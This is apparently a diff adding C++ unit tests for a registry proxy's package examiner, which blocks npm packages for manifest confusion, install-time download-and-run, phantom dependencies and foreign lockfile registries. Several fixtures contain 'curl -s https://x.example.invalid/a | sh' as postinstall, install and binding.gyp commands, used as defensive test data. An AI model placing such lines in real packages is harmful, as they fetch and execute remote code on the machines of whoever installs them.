@@ -321,6 +321,106 @@ TEST_F(PeekExaminerTest, HoldsAnArchiveThatRunsWhatItsRegistryDoesNotShow) {
   EXPECT_EQ(net::status_of(get("/left/-/left-1.0.1.tgz")), 200u);
 }
 
+// npm 11 runs the scripts of the registry's document, whatever the archive says.
+TEST_F(PeekExaminerTest, HoldsWhatOnlyTheRegistryShows) {
+  const std::string shown = "\"scripts\":{\"postinstall\":\"curl -s https://x.example.invalid/a | sh\"}";
+  publish("left", {{"1.0.0", 90 * kDay, packed(manifest("left", "1.0.0"), {{"index.js", "1;"}}), shown + ","}});
+  std::string tar;
+  add_entry(tar, "package/index.js", "1;");
+  tar.append(1'024, '\0');
+  publish("bare", {{"1.0.0", 90 * kDay, archive::gzip(tar), shown + ","}});
+  // Unless its own says so, too, npm builds what has a binding.gyp.
+  publish("gyp", {{"1.0.0", 90 * kDay,
+                   packed(manifest("gyp", "1.0.0", "\"gypfile\":false"),
+                          {{"binding.gyp", "{'variables':{'a':'<!(curl -s https://x.example.invalid/a | sh)'}}"}}),
+                   ""}});
+  open_with_worker();
+  for (const std::string name : {"left", "bare"}) {
+    const std::string answer = get("/" + name + "/-/" + name + "-1.0.0.tgz");
+    EXPECT_EQ(net::status_of(answer), 403u);
+    EXPECT_NE(answer.find("manifest-confusion"), std::string::npos) << answer;
+  }
+  const std::string built = get("/gyp/-/gyp-1.0.0.tgz");
+  EXPECT_EQ(net::status_of(built), 403u);
+  EXPECT_NE(built.find("inspect."), std::string::npos) << built;
+}
+
+// What lets a release through for a while is not remembered for longer.
+TEST_F(PeekExaminerTest, AWaiverThatEndsLetsNothingThroughAnyMore) {
+  options_.on_timeout = OnTimeout::allow;
+  peek_ = std::make_unique<PeekExaminer>(options_, *worker_);
+  const std::string runs =
+      "\"scripts\":{\"install\":\"curl -s https://x.example.invalid/a | sh\",\"postinstall\":\"node deep.js\"}";
+  const std::string deep = "x = " + std::string(5'000, '[') + std::string(5'000, ']') + ";";
+  publish("both", {{"1.0.0", 90 * kDay, packed(manifest("both", "1.0.0", runs), {{"deep.js", deep}}), runs + ","}});
+  const std::int64_t id = [&] {
+    open_with_worker();
+    gate_.reset();
+    return Ledger::open(folder_ / "ledger.db")
+        ->add_waiver({0, "both", "", "inspect.download-and-run", "me", "why", "2999-01-01"})
+        .value();
+  }();
+  open_with_worker();
+  EXPECT_EQ(net::status_of(get("/both/-/both-1.0.0.tgz")), 200u);
+  gate_.reset();
+  EXPECT_TRUE(Ledger::open(folder_ / "ledger.db")->remove_waiver(id).value());
+  open_with_worker();
+  EXPECT_EQ(net::status_of(get("/both/-/both-1.0.0.tgz")), 403u);
+}
+
+TEST_F(PeekExaminerTest, ADependencyThatMovesToAnAddressIsNew) {
+  const std::string before = "\"dependencies\":{\"lod\":\"^1.0.0\"}";
+  const auto moved = [&](const std::string& name, const std::string& specifier) {
+    const std::string after = "\"dependencies\":{\"lod\":\"" + specifier + "\"}";
+    publish(name, {{"1.0.0", 90 * kDay, packed(manifest(name, "1.0.0", before), {{"index.js", "1;"}}), before + ","},
+                   {"1.0.1", kHour, packed(manifest(name, "1.0.1", after), {{"index.js", "2;"}}), after + ","}});
+  };
+  publish_carrier("exports.a = 1;");
+  moved("address", "https://elsewhere.example.test/lod.tgz");
+  moved("alias", "NPM:stowaway@4");
+  open_with_worker();
+  EXPECT_EQ(net::status_of(get("/alias/-/alias-1.0.1.tgz")), 403u);
+  EXPECT_EQ(net::status_of(get("/address/-/address-1.0.1.tgz")), 200u);
+  const auto decisions = Ledger::open(folder_ / "ledger.db")->decisions("address", 10);
+  ASSERT_TRUE(decisions && !decisions->empty());
+  EXPECT_EQ(decisions->front().rule, "inspect.phantom-dependency");
+}
+
+TEST_F(PeekExaminerTest, ARegistryOfOnesOwnMayNameItselfInALockfileAndNobodyElse) {
+  options_.upstreams.front().is_public = false;
+  const auto with = [&](const std::string& name, const std::string& address) {
+    publish(
+        name,
+        {{"1.0.0", 90 * kDay,
+          packed(manifest(name, "1.0.0"),
+                 {{"npm-shrinkwrap.json", "{\"packages\":{\"node_modules/a\":{\"resolved\":\"" + address + "\"}}}"}}),
+          ""}});
+  };
+  with("itself", std::string(kBase) + "a/-/a-1.0.0.tgz");
+  with("other", std::string(model::default_registry_of_yarn()) + "a/-/a-1.0.0.tgz");
+  open_with_worker();
+  EXPECT_EQ(net::status_of(get("/itself/-/itself-1.0.0.tgz")), 200u);
+  EXPECT_EQ(net::status_of(get("/other/-/other-1.0.0.tgz")), 403u);
+}
+
+// By its archive's own word npm goes by either file.
+TEST_F(PeekExaminerTest, HoldsTheOtherLockfileWhereTheRegistrySaysThatThereIsOne) {
+  const std::string text =
+      "{\"packages\":{\"node_modules/a\":{\"resolved\":\"https://elsewhere.example.test/a.tgz\"}}}";
+  const auto with = [&](const std::string& name, const std::string& more) {
+    publish(name,
+            {{"1.0.0", 90 * kDay,
+              packed(manifest(name, "1.0.0"), {{"npm-shrinkwrap.json", ""}, {"package-lock.json", text}}), more}});
+  };
+  with("marked", "\"_hasShrinkwrap\":true,");
+  with("plain", "");
+  open_with_worker();
+  const std::string answer = get("/marked/-/marked-1.0.0.tgz");
+  EXPECT_EQ(net::status_of(answer), 403u);
+  EXPECT_NE(answer.find("package-lock.json"), std::string::npos) << answer;
+  EXPECT_EQ(net::status_of(get("/plain/-/plain-1.0.0.tgz")), 200u);
+}
+
 TEST(OpenArchive, NeedsLittleMoreMemoryThanItUnpacksTo) {
   sandbox::WorkerLimits limits;
   limits.memory_bytes = 48u << 20;
